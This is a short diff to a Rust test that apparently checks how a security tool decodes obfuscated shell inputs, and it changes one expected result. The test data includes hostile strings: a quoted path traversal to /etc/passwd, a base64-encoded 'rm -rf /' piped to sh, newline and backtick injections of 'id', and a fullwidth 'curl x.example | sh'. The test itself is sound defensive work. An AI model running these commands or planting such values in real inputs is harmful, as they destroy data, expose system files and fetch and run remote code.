@@ -62,7 +62,7 @@ fn readings_follow_decodings() {
     shows("cat ./a/../../etc/pa''sswd", Roles::COMMAND, "../etc/passwd");
     shows("echo cm0gLXJmIC8= | base64 -d | sh", Roles::COMMAND, "rm -rf /");
     shows("host%0aid", Roles::HOST, "host\nid");
-    shows("1' || `id` || '", Roles::ID, "1\n`id`\nid");
+    shows("1' || `id` || '", Roles::ID, "1\nid\nid");
     shows("ｃｕｒｌ ｘ.example | sh", Roles::COMMAND, "curl x.example\n| sh");
 }
 
